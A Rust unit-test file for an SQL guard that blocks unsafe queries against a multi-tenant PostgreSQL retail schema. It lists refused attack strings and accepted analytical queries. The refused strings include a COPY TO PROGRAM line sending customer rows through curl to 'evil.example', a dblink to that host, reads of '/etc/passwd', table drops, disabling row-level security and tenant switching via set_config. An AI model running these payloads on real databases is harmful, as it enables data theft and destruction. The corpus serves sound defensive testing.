//! Unit tests of the SQL guard: an attack corpus (each with its exact error code and construct),
//! an acceptance corpus of realistic analytical and DBA queries, read-write mode rules, and a
//! no-panic property over every prefix of every corpus string. No database involved.

use super::*;

const UNSAFE: &str = "UNSAFE_SQL";
const SYNTAX: &str = "SYNTAX_ERROR";
const VALIDATION: &str = "VALIDATION_ERROR";

/// Read-write mode with the default settings: DML allowed; DROP, TRUNCATE and ALTER blocked.
fn read_write() -> GuardConfig {
    GuardConfig {
        read_only: false,
        ..GuardConfig::default()
    }
}

/// Asserts a refusal with the given code and, for `UNSAFE_SQL`, the given construct.
fn assert_refused(sql: &str, cfg: &GuardConfig, code: &str, construct: &str) {
    match check(sql, cfg) {
        Ok(ok) => panic!(
            "accepted ({:?}) but expected {code} {construct}:\n{sql}",
            ok.kind
        ),
        Err(err) => {
            assert_eq!(
                err.code().as_str(),
                code,
                "wrong code ({err:?}) for:\n{sql}"
            );
            if let GuardError::Unsafe {
                reason,
                construct: got,
            } = &err
            {
                assert_eq!(got, construct, "wrong construct ({err:?}) for:\n{sql}");
                assert!(
                    reason.contains(got.as_str()),
                    "reason {reason:?} does not name {got:?}"
                );
            }
        }
    }
}

fn assert_accepted(sql: &str, cfg: &GuardConfig) -> StatementKind {
    match check(sql, cfg) {
        Ok(ok) => ok.kind,
        Err(err) => panic!("refused ({err:?}) but expected accepted:\n{sql}"),
    }
}

const SWITCH: &str = "'app.current_rls_user_id', '00000000-0000-0000-0000-000000000000', false";

/// Refused in the default (read-only) configuration: `(sql, code, construct)`; the construct
/// is only compared for `UNSAFE_SQL`.
const ATTACKS: &[(&str, &str, &str)] = &[
    // Stacked statements.
    (
        "SELECT 1; COMMIT; DROP TABLE retail.orders",
        UNSAFE,
        "multiple statements",
    ),
    (
        "COMMIT; DROP TABLE retail.orders",
        UNSAFE,
        "multiple statements",
    ),
    (
        "ROLLBACK; DELETE FROM retail.orders",
        UNSAFE,
        "multiple statements",
    ),
    ("SELECT 1; SELECT 2", UNSAFE, "multiple statements"),
    (
        "SELECT * FROM retail.stores; DO $$ BEGIN END $$",
        UNSAFE,
        "multiple statements",
    ),
    (
        "SELECT 1 -- harmless\n; DELETE FROM retail.orders",
        UNSAFE,
        "multiple statements",
    ),
    (
        "SELECT 1 /* ; */; UPDATE retail.inventory SET stock_level = 0",
        UNSAFE,
        "multiple statements",
    ),
    (
        "SELECT 'a;b'; DELETE FROM retail.orders",
        UNSAFE,
        "multiple statements",
    ),
    // sqlparser's own statement loop stops at a stray END and ignores the rest.
    ("SELECT 1 END; DROP TABLE retail.orders", SYNTAX, ""),
    ("SELECT 1 SELECT 2", SYNTAX, ""),
    // Comments hiding DML.
    ("/* x */ DELETE FROM retail.orders", UNSAFE, "DELETE"),
    (
        "/* /* nested */ still a comment */ DROP TABLE retail.orders",
        UNSAFE,
        "DROP TABLE",
    ),
    (
        "-- a comment\nUPDATE retail.inventory SET stock_level = 0",
        UNSAFE,
        "UPDATE",
    ),
    (
        "--\n--\n/**/INSERT INTO retail.stores (store_name) VALUES ('x')",
        UNSAFE,
        "INSERT",
    ),
    ("DEL/**/ETE FROM retail.orders", SYNTAX, ""),
    (
        "/* unterminated comment DROP TABLE retail.orders",
        SYNTAX,
        "",
    ),
    // Empty input.
    ("", VALIDATION, ""),
    ("   \n\t  ", VALIDATION, ""),
    (";", VALIDATION, ""),
    ("-- only a comment", VALIDATION, ""),
    ("/* a */ /* /* nested */ */ ;", VALIDATION, ""),
    // Data-modifying CTEs, at any depth.
    (
        "WITH d AS (DELETE FROM retail.orders RETURNING *) SELECT * FROM d",
        UNSAFE,
        "DELETE",
    ),
    (
        "WITH u AS (UPDATE retail.inventory SET stock_level = 0 RETURNING *) SELECT count(*) FROM u",
        UNSAFE,
        "UPDATE",
    ),
    (
        "WITH i AS (INSERT INTO retail.stores (store_name) VALUES ('x') RETURNING *) SELECT * FROM i",
        UNSAFE,
        "INSERT",
    ),
    (
        "SELECT * FROM (WITH d AS (DELETE FROM retail.orders RETURNING order_id) SELECT * FROM d) AS s",
        UNSAFE,
        "DELETE",
    ),
    (
        "SELECT * FROM retail.stores WHERE store_id IN \
         (WITH d AS (DELETE FROM retail.orders RETURNING store_id) SELECT store_id FROM d)",
        UNSAFE,
        "DELETE",
    ),
    (
        "WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM retail.order_items RETURNING 1) \
         SELECT * FROM c) SELECT * FROM a, b",
        UNSAFE,
        "DELETE",
    ),
    (
        "WITH x AS (SELECT 1) DELETE FROM retail.orders",
        UNSAFE,
        "DELETE",
    ),
    // DML and DDL.
    (
        "INSERT INTO retail.orders (customer_id, store_id, order_date) VALUES (1, 1, now())",
        UNSAFE,
        "INSERT",
    ),
    ("UPDATE retail.orders SET store_id = 2", UNSAFE, "UPDATE"),
    ("DELETE FROM retail.orders", UNSAFE, "DELETE"),
    (
        "MERGE INTO retail.inventory i USING retail.products p ON i.product_id = p.product_id \
         WHEN MATCHED THEN DELETE",
        UNSAFE,
        "MERGE",
    ),
    ("DROP TABLE retail.orders", UNSAFE, "DROP TABLE"),
    ("TRUNCATE retail.orders", UNSAFE, "TRUNCATE"),
    (
        "ALTER TABLE retail.orders DISABLE ROW LEVEL SECURITY",
        UNSAFE,
        "ALTER TABLE",
    ),
    (
        "CREATE TABLE loot AS SELECT * FROM retail.customers",
        UNSAFE,
        "CREATE TABLE AS",
    ),
    ("CREATE TABLE loot (id int)", UNSAFE, "CREATE TABLE"),
    (
        "CREATE INDEX ON retail.orders (order_date)",
        UNSAFE,
        "CREATE INDEX",
    ),
    (
        "SELECT * INTO loot FROM retail.customers",
        UNSAFE,
        "SELECT INTO",
    ),
    (
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql SECURITY DEFINER",
        UNSAFE,
        "CREATE FUNCTION",
    ),
    ("CREATE ROLE evil SUPERUSER", UNSAFE, "CREATE ROLE"),
    (
        "DROP POLICY store_isolation ON retail.orders",
        UNSAFE,
        "DROP POLICY",
    ),
    ("GRANT ALL ON retail.orders TO PUBLIC", UNSAFE, "GRANT"),
    (
        "REVOKE SELECT ON retail.orders FROM mcp_user",
        UNSAFE,
        "REVOKE",
    ),
    ("COMMENT ON TABLE retail.orders IS 'x'", UNSAFE, "COMMENT"),
    // Locking clauses, at any depth.
    (
        "SELECT * FROM retail.orders FOR UPDATE",
        UNSAFE,
        "FOR UPDATE",
    ),
    ("SELECT * FROM retail.orders FOR SHARE", UNSAFE, "FOR SHARE"),
    (
        "SELECT * FROM retail.orders FOR UPDATE OF retail.orders NOWAIT",
        UNSAFE,
        "FOR UPDATE",
    ),
    // sqlparser 0.63 cannot parse the NO KEY / KEY lock strengths: refused as syntax.
    ("SELECT * FROM retail.orders FOR NO KEY UPDATE", SYNTAX, ""),
    ("SELECT * FROM retail.orders FOR KEY SHARE", SYNTAX, ""),
    (
        "SELECT * FROM (SELECT * FROM retail.inventory FOR UPDATE) AS s",
        UNSAFE,
        "FOR UPDATE",
    ),
    (
        "WITH l AS (SELECT * FROM retail.inventory FOR UPDATE SKIP LOCKED) SELECT * FROM l",
        UNSAFE,
        "FOR UPDATE",
    ),
    (
        "SELECT * FROM retail.stores WHERE store_id IN (SELECT store_id FROM retail.orders FOR SHARE)",
        UNSAFE,
        "FOR SHARE",
    ),
    // Session, role and transaction control.
    (
        "SET app.current_rls_user_id = '00000000-0000-0000-0000-000000000000'",
        UNSAFE,
        "SET",
    ),
    ("SET LOCAL app.current_rls_user_id TO 'x'", UNSAFE, "SET"),
    ("SET search_path = evil, public", UNSAFE, "SET"),
    ("SET TRANSACTION READ WRITE", UNSAFE, "SET"),
    ("RESET app.current_rls_user_id", UNSAFE, "RESET"),
    ("RESET ALL", UNSAFE, "RESET"),
    ("SET ROLE postgres", UNSAFE, "SET ROLE"),
    (
        "SET SESSION AUTHORIZATION postgres",
        UNSAFE,
        "SET SESSION AUTHORIZATION",
    ),
    ("BEGIN", UNSAFE, "BEGIN"),
    ("START TRANSACTION READ WRITE", UNSAFE, "BEGIN"),
    ("COMMIT", UNSAFE, "COMMIT"),
    ("ROLLBACK", UNSAFE, "ROLLBACK"),
    ("SAVEPOINT s1", UNSAFE, "SAVEPOINT"),
    ("RELEASE SAVEPOINT s1", UNSAFE, "RELEASE SAVEPOINT"),
    ("DISCARD ALL", UNSAFE, "DISCARD"),
    // Code blocks, procedures, prepared statements, cursors.
    (
        "DO $$ BEGIN PERFORM set_config('app.current_rls_user_id', 'x', false); END $$",
        UNSAFE,
        "DO",
    ),
    (
        "do language plpgsql $$ BEGIN DELETE FROM retail.orders; END $$",
        UNSAFE,
        "DO",
    ),
    ("CALL retail.refresh_stats()", UNSAFE, "CALL"),
    ("PREPARE p AS DELETE FROM retail.orders", UNSAFE, "PREPARE"),
    ("EXECUTE p", UNSAFE, "EXECUTE"),
    ("DEALLOCATE ALL", UNSAFE, "DEALLOCATE"),
    (
        "DECLARE c CURSOR FOR SELECT * FROM retail.orders",
        UNSAFE,
        "DECLARE",
    ),
    ("FETCH ALL FROM c", UNSAFE, "FETCH"),
    ("CLOSE c", UNSAFE, "CLOSE"),
    // COPY, notifications, maintenance, locks.
    (
        "COPY retail.customers TO PROGRAM 'curl -d @- http://evil.example'",
        UNSAFE,
        "COPY",
    ),
    (
        "COPY (SELECT * FROM retail.customers) TO STDOUT",
        UNSAFE,
        "COPY",
    ),
    (
        "COPY retail.orders FROM '/tmp/orders.csv' WITH (FORMAT csv)",
        UNSAFE,
        "COPY",
    ),
    ("LISTEN orders_channel", UNSAFE, "LISTEN"),
    ("NOTIFY orders_channel, 'payload'", UNSAFE, "NOTIFY"),
    ("UNLISTEN *", UNSAFE, "UNLISTEN"),
    ("VACUUM ANALYZE retail.orders", UNSAFE, "VACUUM"),
    ("ANALYZE retail.orders", UNSAFE, "ANALYZE"),
    (
        "LOCK TABLE retail.orders IN ACCESS EXCLUSIVE MODE",
        UNSAFE,
        "LOCK",
    ),
    (
        "REFRESH MATERIALIZED VIEW retail.sales_mv",
        UNSAFE,
        "REFRESH",
    ),
    ("CHECKPOINT", UNSAFE, "CHECKPOINT"),
    ("SHOW search_path", UNSAFE, "SHOW"),
    ("CLUSTER retail.orders", UNSAFE, "CLUSTER"),
    ("REINDEX TABLE retail.orders", UNSAFE, "REINDEX"),
    ("LOAD 'plpgsql'", UNSAFE, "LOAD"),
    ("ABORT", UNSAFE, "ROLLBACK"),
    ("END", UNSAFE, "COMMIT"),
    ("MOVE FORWARD 5 IN c", UNSAFE, "MOVE"),
    ("PREPARE TRANSACTION 'x'", UNSAFE, "PREPARE"),
    ("DESCRIBE retail.orders", UNSAFE, "DESCRIBE"),
    ("CREATE EXTENSION dblink", UNSAFE, "CREATE EXTENSION"),
    (
        "ALTER ROLE mcp_user SET app.current_rls_user_id = '00000000-0000-0000-0000-000000000000'",
        UNSAFE,
        "ALTER ROLE",
    ),
    // sqlparser 0.63 cannot parse ALTER SYSTEM: refused as syntax.
    ("ALTER SYSTEM SET work_mem = '1GB'", SYNTAX, ""),
    // Lexical tricks: PostgreSQL and sqlparser must read the text the same way.
    // `U&"..."` identifiers decode escapes in PostgreSQL (this is set_config) but not in sqlparser.
    (
        "SELECT U&\"set\\005fconfig\"('a', 'b', false)",
        UNSAFE,
        "U&\"...\"",
    ),
    (
        "SELECT * FROM u&\"pg_read\\005ffile\"('/etc/passwd')",
        UNSAFE,
        "U&\"...\"",
    ),
    // A backslash does not escape a quote in a standard string: two statements.
    (
        "SELECT '\\'; DELETE FROM retail.orders; --'",
        UNSAFE,
        "multiple statements",
    ),
    // A carriage return ends a `--` comment.
    (
        "SELECT 1 --\r, set_config('a', 'b', false)",
        UNSAFE,
        "set_config",
    ),
    // EXPLAIN checks its inner statement like a top-level one.
    ("EXPLAIN EXECUTE p", UNSAFE, "EXECUTE"),
    (
        "EXPLAIN CREATE TABLE loot AS SELECT * FROM retail.customers",
        UNSAFE,
        "CREATE TABLE AS",
    ),
    (
        "EXPLAIN ANALYZE DELETE FROM retail.orders",
        UNSAFE,
        "DELETE",
    ),
    ("EXPLAIN ANALYZE SELECT pg_sleep(10)", UNSAFE, "pg_sleep"),
];

/// `set_config` (the tenant switch) wherever a function call can hide, however it is spelled.
const SET_CONFIG_HIDING_PLACES: &[&str] = &[
    "SELECT set_config({S})",
    "SELECT Set_Config({S})",
    "SELECT \"set_config\"({S})",
    "SELECT \"SET_CONFIG\"({S})",
    "SELECT pg_catalog.set_config({S})",
    "SELECT \"pg_catalog\".\"set_config\"({S})",
    "SELECT PG_CATALOG.SET_CONFIG({S})",
    "SELECT public.set_config({S})",
    "SELECT * FROM set_config({S})",
    "SELECT * FROM pg_catalog.set_config({S}) AS s(v)",
    "SELECT * FROM retail.orders o, LATERAL set_config({S}) AS s",
    "SELECT * FROM retail.orders o CROSS JOIN LATERAL (SELECT set_config({S})) AS s",
    "SELECT * FROM TABLE(set_config({S}))",
    "WITH s AS (SELECT set_config({S})) SELECT * FROM retail.orders, s",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE set_config({S}) IS NULL) SELECT * FROM r",
    "SELECT * FROM retail.orders WHERE (SELECT set_config({S})) IS NOT NULL",
    "SELECT * FROM retail.orders WHERE EXISTS (SELECT 1 WHERE set_config({S}) <> '')",
    "SELECT * FROM retail.orders WHERE store_id IN (SELECT length(set_config({S})))",
    "SELECT * FROM retail.orders WHERE store_id IN (1, length(set_config({S})))",
    "SELECT * FROM retail.orders ORDER BY set_config({S})",
    "SELECT store_id FROM retail.orders GROUP BY store_id, set_config({S})",
    "SELECT store_id FROM retail.orders GROUP BY store_id HAVING count(*) > length(set_config({S}))",
    "SELECT sum(total_amount) OVER (PARTITION BY set_config({S})) FROM retail.order_items",
    "SELECT sum(total_amount) OVER w FROM retail.order_items WINDOW w AS (ORDER BY set_config({S}))",
    "SELECT count(*) FILTER (WHERE set_config({S}) IS NOT NULL) FROM retail.orders",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(set_config({S}))) FROM retail.orders",
    "SELECT upper(lower(set_config({S})))",
    "SELECT set_config({S})::text",
    "SELECT CAST(set_config({S}) AS text)",
    "SELECT CASE WHEN true THEN set_config({S}) END",
    "SELECT CASE set_config({S}) WHEN 'a' THEN 1 END",
    "SELECT COALESCE(NULL, set_config({S}))",
    "SELECT ARRAY[set_config({S})]",
    "SELECT ROW(set_config({S}))",
    "VALUES (set_config({S}))",
    "SELECT 1 UNION ALL SELECT length(set_config({S}))",
    "SELECT * FROM retail.orders o JOIN retail.stores s ON s.store_id = o.store_id AND set_config({S}) IS NOT NULL",
    "SELECT 1 LIMIT length(set_config({S}))",
    "SELECT 1 OFFSET length(set_config({S}))",
    "SELECT DISTINCT ON (set_config({S})) 1",
    "SELECT * FROM (VALUES (1)) v(x) WHERE x = ANY(ARRAY[length(set_config({S}))])",
    "SELECT (SELECT (SELECT (SELECT set_config({S}))))",
    "SELECT jsonb_build_object('k', set_config({S})) ->> 'k'",
    "SELECT * FROM unnest(ARRAY[set_config({S})])",
    "EXPLAIN SELECT set_config({S})",
    "/* SELECT 1 */ SELECT set_config({S}) -- trailing",
];

/// One call per denied family, plain and in `FROM`: `(sql, construct)`.
const DENIED_CALLS: &[(&str, &str)] = &[
    ("SELECT pg_sleep(10)", "pg_sleep"),
    ("SELECT pg_sleep_for('1 minute')", "pg_sleep_for"),
    (
        "SELECT pg_catalog.pg_sleep_until(now() + interval '1 hour')",
        "pg_sleep_until",
    ),
    (
        "SELECT * FROM retail.orders WHERE pg_sleep(1) IS NULL",
        "pg_sleep",
    ),
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT lo_export(16385, '/tmp/x')", "lo_export"),
    ("SELECT lo_get(16385)", "lo_get"),
    ("SELECT loread(lo_open(16385, 262144), 100)", "loread"),
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    (
        "SELECT pg_read_binary_file('/etc/passwd')",
        "pg_read_binary_file",
    ),
    ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
    ("SELECT * FROM pg_catalog.pg_ls_waldir()", "pg_ls_waldir"),
    ("SELECT pg_stat_file('postgresql.conf')", "pg_stat_file"),
    ("SELECT pg_file_write('x', 'y', false)", "pg_file_write"),
    (
        "SELECT query_to_xml('DELETE FROM retail.orders RETURNING 1', true, false, '')",
        "query_to_xml",
    ),
    (
        "SELECT query_to_xml_and_xmlschema('SELECT 1', true, false, '')",
        "query_to_xml_and_xmlschema",
    ),
    (
        "SELECT query_to_xmlschema('SELECT 1', true, false, '')",
        "query_to_xmlschema",
    ),
    (
        "SELECT cursor_to_xml('c', 10, true, false, '')",
        "cursor_to_xml",
    ),
    (
        "SELECT table_to_xml('retail.customers', true, false, '')",
        "table_to_xml",
    ),
    (
        "SELECT schema_to_xml('retail', true, false, '')",
        "schema_to_xml",
    ),
    ("SELECT database_to_xml(true, false, '')", "database_to_xml"),
    (
        "SELECT * FROM ts_stat('SELECT to_tsvector(name) FROM retail.products')",
        "ts_stat",
    ),
    (
        "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(a int)",
        "dblink",
    ),
    (
        "SELECT dblink_exec('dbname=postgres', 'DROP TABLE retail.orders')",
        "dblink_exec",
    ),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
        "pg_terminate_backend",
    ),
    ("SELECT pg_cancel_backend(1234)", "pg_cancel_backend"),
    ("SELECT pg_reload_conf()", "pg_reload_conf"),
    ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
    ("SELECT pg_advisory_lock(42)", "pg_advisory_lock"),
    ("SELECT pg_advisory_xact_lock(42)", "pg_advisory_xact_lock"),
    ("SELECT pg_try_advisory_lock(42)", "pg_try_advisory_lock"),
    (
        "SELECT pg_import_system_collations('pg_catalog')",
        "pg_import_system_collations",
    ),
    ("SELECT nextval('retail.orders_order_id_seq')", "nextval"),
    ("SELECT setval('retail.orders_order_id_seq', 1)", "setval"),
    ("SELECT pg_notify('orders', 'x')", "pg_notify"),
    (
        "SELECT pg_logical_emit_message(true, 'p', 'x')",
        "pg_logical_emit_message",
    ),
    (
        "SELECT pg_create_restore_point('x')",
        "pg_create_restore_point",
    ),
    ("SELECT pg_switch_wal()", "pg_switch_wal"),
    ("SELECT pg_promote()", "pg_promote"),
    ("SELECT pg_stat_reset()", "pg_stat_reset"),
    (
        "SELECT pg_stat_statements_reset()",
        "pg_stat_statements_reset",
    ),
    (
        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
        "pg_logical_slot_get_changes",
    ),
    (
        "SELECT * FROM retail.stores s CROSS JOIN LATERAL pg_read_file(s.store_name) AS f",
        "pg_read_file",
    ),
];

/// Analytical queries on the retail schema that read-only mode must accept.
const ACCEPT_RETAIL: &[&str] = &[
    "SELECT 1",
    "SELECT 1;",
    "SELECT 1 ;; ",
    "-- c\nSELECT 1",
    "/* leading */ /* /* nested */ */ SELECT store_id FROM retail.stores -- trailing",
    "(SELECT store_id FROM retail.stores)",
    "TABLE retail.stores",
    "VALUES (1, 2), (3, 4)",
    "SELECT * FROM retail.stores ORDER BY store_name",
    "SELECT store_id, count(*) AS orders FROM retail.orders GROUP BY store_id ORDER BY orders DESC",
    // Window functions: running totals, ranks, LAG/LEAD, NTILE.
    "SELECT o.store_id, o.order_date, sum(oi.total_amount) OVER (PARTITION BY o.store_id ORDER BY o.order_date \
     ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running_total \
     FROM retail.orders o JOIN retail.order_items oi ON oi.order_id = o.order_id",
    "SELECT product_id, sum(total_amount) AS revenue, rank() OVER (ORDER BY sum(total_amount) DESC) AS rnk, \
     dense_rank() OVER (ORDER BY sum(quantity) DESC) AS qty_rank FROM retail.order_items GROUP BY product_id",
    "SELECT order_id, total_amount, lag(total_amount) OVER w AS prev, lead(total_amount, 1, 0) OVER w AS next, \
     ntile(4) OVER w AS quartile FROM retail.order_items WINDOW w AS (PARTITION BY store_id ORDER BY order_id)",
    "SELECT customer_id, ntile(5) OVER (ORDER BY sum(oi.total_amount)) AS spend_quintile \
     FROM retail.orders o JOIN retail.order_items oi USING (order_id) GROUP BY customer_id",
    // CTEs, recursive CTEs.
    "WITH monthly AS (SELECT date_trunc('month', o.order_date) AS month, sum(oi.total_amount) AS revenue \
     FROM retail.orders o JOIN retail.order_items oi ON oi.order_id = o.order_id GROUP BY 1) \
     SELECT month, revenue, revenue - lag(revenue) OVER (ORDER BY month) AS change FROM monthly ORDER BY month",
    "WITH RECURSIVE tree AS (SELECT category_id, category_name, 1 AS depth FROM retail.categories \
     WHERE parent_category_id IS NULL UNION ALL SELECT c.category_id, c.category_name, t.depth + 1 \
     FROM retail.categories c JOIN tree t ON c.parent_category_id = t.category_id) SELECT * FROM tree",
    "WITH RECURSIVE days(d) AS (SELECT DATE '2024-01-01' UNION ALL SELECT d + 1 FROM days WHERE d < DATE '2024-01-31') \
     SELECT d, (SELECT count(*) FROM retail.orders o WHERE o.order_date::date = d) FROM days",
    // FILTER, WITHIN GROUP, statistics.
    "SELECT store_id, count(*) FILTER (WHERE quantity >= 5) AS bulk_lines, \
     avg(discount_percent) FILTER (WHERE discount_percent > 0) AS avg_discount FROM retail.order_items GROUP BY store_id",
    "SELECT store_id, percentile_cont(0.5) WITHIN GROUP (ORDER BY total_amount) AS median_line, \
     percentile_disc(0.9) WITHIN GROUP (ORDER BY total_amount) AS p90 FROM retail.order_items GROUP BY store_id",
    "SELECT corr(quantity, unit_price) AS price_qty_corr, stddev(total_amount), variance(quantity) \
     FROM retail.order_items",
    "SELECT mode() WITHIN GROUP (ORDER BY product_id) FROM retail.order_items",
    // Dates and intervals.
    "SELECT date_trunc('week', order_date) AS week, count(*) FROM retail.orders \
     WHERE order_date >= CURRENT_DATE - INTERVAL '90 days' GROUP BY 1 ORDER BY 1",
    "SELECT EXTRACT(YEAR FROM order_date) AS y, EXTRACT(MONTH FROM order_date) AS m, \
     EXTRACT(DOW FROM order_date) AS dow, count(*) FROM retail.orders GROUP BY 1, 2, 3",
    "SELECT order_id FROM retail.orders WHERE order_date BETWEEN now() - interval '1 year' AND now()",
    "SELECT to_char(order_date, 'YYYY-MM') AS month, age(now(), min(order_date)) FROM retail.orders GROUP BY 1",
    "SELECT '2024-01-01'::date + 7, INTERVAL '1 day' * 3, now() AT TIME ZONE 'UTC'",
    // Set operations.
    "SELECT store_id, 'online' AS channel FROM retail.stores WHERE is_online \
     UNION ALL SELECT store_id, 'physical' FROM retail.stores WHERE NOT is_online",
    "SELECT product_id FROM retail.order_items INTERSECT SELECT product_id FROM retail.inventory",
    "SELECT product_id FROM retail.products EXCEPT SELECT product_id FROM retail.order_items ORDER BY 1",
    "SELECT * FROM retail.stores UNION TABLE retail.stores",
    // Correlated subqueries, EXISTS, CASE, COALESCE, casts.
    "SELECT c.customer_id, (SELECT max(o.order_date) FROM retail.orders o WHERE o.customer_id = c.customer_id) \
     AS last_order FROM retail.customers c",
    "SELECT s.store_name FROM retail.stores s WHERE NOT EXISTS \
     (SELECT 1 FROM retail.orders o WHERE o.store_id = s.store_id AND o.order_date > now() - interval '7 days')",
    "SELECT product_id, CASE WHEN stock_level = 0 THEN 'OUT' WHEN stock_level < 10 THEN 'LOW' ELSE 'OK' END \
     AS status, COALESCE(NULLIF(stock_level, 0), -1) FROM retail.inventory",
    "SELECT round(sum(total_amount)::numeric, 2), CAST(avg(quantity) AS numeric(10, 2)), \
     sum(unit_price * quantity * (1 - discount_percent / 100.0))::numeric(12, 2) FROM retail.order_items",
    // Placeholders, JSON, arrays, text matching.
    "SELECT * FROM retail.orders WHERE store_id = $1 AND order_date >= $2::date LIMIT $3",
    "SELECT product_name, attributes->>'color' AS color, attributes->'dims'->>'w' \
     FROM retail.products WHERE attributes @> '{\"eco\": true}'::jsonb AND attributes ? 'color'",
    "SELECT product_id FROM retail.products WHERE product_id = ANY(ARRAY[1, 2, 3]) \
     AND tags && ARRAY['outdoor']::text[] AND array_length(tags, 1) > 0",
    "SELECT array_agg(DISTINCT product_id ORDER BY product_id), string_agg(product_name, ', ' ORDER BY product_name) \
     FROM retail.products",
    "SELECT product_name FROM retail.products WHERE product_name ILIKE '%hammer%' OR product_name ~* 'drill'",
    // DISTINCT ON, grouping sets, rollup, cube.
    "SELECT DISTINCT ON (customer_id) customer_id, order_id, order_date FROM retail.orders \
     ORDER BY customer_id, order_date DESC",
    "SELECT store_id, product_id, sum(quantity) FROM retail.order_items \
     GROUP BY GROUPING SETS ((store_id), (product_id), ())",
    "SELECT store_id, product_id, sum(quantity), grouping(store_id, product_id) FROM retail.order_items \
     GROUP BY ROLLUP (store_id, product_id)",
    "SELECT store_id, product_id, sum(quantity) FROM retail.order_items GROUP BY CUBE (store_id, product_id)",
    // LATERAL joins and table functions.
    "SELECT s.store_name, top.* FROM retail.stores s CROSS JOIN LATERAL (SELECT oi.product_id, \
     sum(oi.quantity) AS units FROM retail.order_items oi WHERE oi.store_id = s.store_id \
     GROUP BY oi.product_id ORDER BY units DESC LIMIT 3) AS top",
    "SELECT d::date AS day FROM generate_series(now() - interval '6 days', now(), interval '1 day') AS g(d)",
    "SELECT * FROM unnest(ARRAY[1, 2, 3]) WITH ORDINALITY AS u(v, i)",
    // Joins over the whole schema.
    "SELECT c.category_name, pt.type_name, sum(oi.total_amount) AS revenue, sum(i.stock_level) AS stock \
     FROM retail.order_items oi JOIN retail.products p ON p.product_id = oi.product_id \
     JOIN retail.product_types pt ON pt.type_id = p.type_id JOIN retail.categories c ON c.category_id = pt.category_id \
     LEFT JOIN retail.inventory i ON i.product_id = p.product_id AND i.store_id = oi.store_id \
     GROUP BY c.category_name, pt.type_name HAVING sum(oi.total_amount) > 1000 ORDER BY revenue DESC NULLS LAST",
    "SELECT * FROM retail.inventory WHERE (store_id, product_id) IN \
     (SELECT store_id, product_id FROM retail.order_items GROUP BY 1, 2 HAVING sum(quantity) > 100)",
    "SELECT order_id FROM retail.orders ORDER BY order_date DESC FETCH FIRST 10 ROWS ONLY",
    "SELECT p.product_name, e.embedding <=> '[0.1, 0.2]'::vector AS distance FROM retail.product_description_embeddings e \
     JOIN retail.products p USING (product_id) ORDER BY distance LIMIT 5",
    // Readers of settings and harmless functions.
    "SELECT current_setting('app.current_rls_user_id', true)",
    "SELECT * FROM retail.stores WHERE rls_user_id = current_setting('app.current_rls_user_id', true)::uuid",
    "SELECT txid_current(), current_user, session_user, version(), now(), currval('x'), lastval()",
    "SELECT e'a\\nb', $$dollar quoted; DELETE FROM retail.orders$$, 'set_config(''x'')'",
    "SELECT 'DROP TABLE retail.orders; COMMIT' AS harmless_text, \"delete\" FROM retail.orders AS \"update\"",
    "SELECT drop_date, update_count, set_config_name FROM retail.audit",
    "EXPLAIN SELECT * FROM retail.orders",
    // Lexical look-alikes read the same way by PostgreSQL and sqlparser: one harmless literal each.
    "SELECT E'\\'; DELETE FROM retail.orders; --'",
    "SELECT $x$;DELETE FROM retail.orders;$x$",
    "SELECT U&'d\\0061t\\+000061'",
    // A vertical tab does not end a `--` comment in PostgreSQL: the rest is comment.
    "SELECT 1 --\x0b, set_config('a', 'b', false)",
    "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT count(*) FROM retail.order_items",
];

/// DBA catalogue queries that read-only mode must accept.
const ACCEPT_DBA: &[&str] = &[
    "SELECT relname, n_live_tup, n_dead_tup, last_autovacuum FROM pg_stat_user_tables ORDER BY n_dead_tup DESC",
    "SELECT * FROM pg_indexes WHERE schemaname='retail'",
    "SELECT relname, pg_size_pretty(pg_total_relation_size(relid)) AS total, \
     pg_size_pretty(pg_relation_size(relid)) AS heap FROM pg_catalog.pg_statio_user_tables \
     ORDER BY pg_total_relation_size(relid) DESC",
    "SELECT pg_size_pretty(pg_total_relation_size('retail.orders'::regclass))",
    "SELECT pg_size_pretty(pg_database_size(current_database()))",
    "SELECT name, setting, unit, source FROM pg_settings WHERE name IN ('work_mem', 'shared_buffers', 'max_connections')",
    "SELECT datname, numbackends, xact_commit, xact_rollback, blks_hit::float / nullif(blks_hit + blks_read, 0) \
     AS cache_hit FROM pg_stat_database",
    "SELECT schemaname, relname, seq_scan, idx_scan FROM pg_stat_user_tables WHERE seq_scan > coalesce(idx_scan, 0)",
    "SELECT indexrelid::regclass, idx_scan FROM pg_stat_user_indexes WHERE idx_scan = 0",
    "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'retail' \
     ORDER BY table_name, ordinal_position",
    "SELECT conname, conrelid::regclass, confrelid::regclass FROM pg_constraint WHERE contype = 'f'",
    "SELECT schemaname, tablename, policyname, qual FROM pg_policies WHERE schemaname = 'retail'",
    "SELECT relname, relrowsecurity, relforcerowsecurity FROM pg_class WHERE relnamespace = 'retail'::regnamespace",
    "SELECT extname, extversion FROM pg_extension",
    "SELECT now() - pg_postmaster_start_time() AS uptime, pg_is_in_recovery()",
    "SELECT pg_get_indexdef(indexrelid) FROM pg_index WHERE indrelid = 'retail.orders'::regclass",
];

/// Every SELECT/WITH query of the use-case document `shared/seeds/003_59d077419dfdaf3f.txt`,
/// verbatim (its own table names kept: the guard does not resolve names). All 26 parse with
/// sqlparser 0.63; the document's INSERT/DELETE statements are in the read-write tests and its
/// `VACUUM ANALYZE` is in the attack corpus.
/// DBA queries over views and functions that show other sessions: refused with the reason,
/// since tenants share the role and the pooled connections (operators get their own tools).
const CROSS_SESSION_QUERIES: &[&str] = &[
    "SELECT pid, usename, state, query_start, now() - query_start AS duration FROM pg_stat_activity WHERE state <> 'idle'",
    "SELECT l.locktype, l.mode, l.granted, l.pid, c.relname FROM pg_locks l \
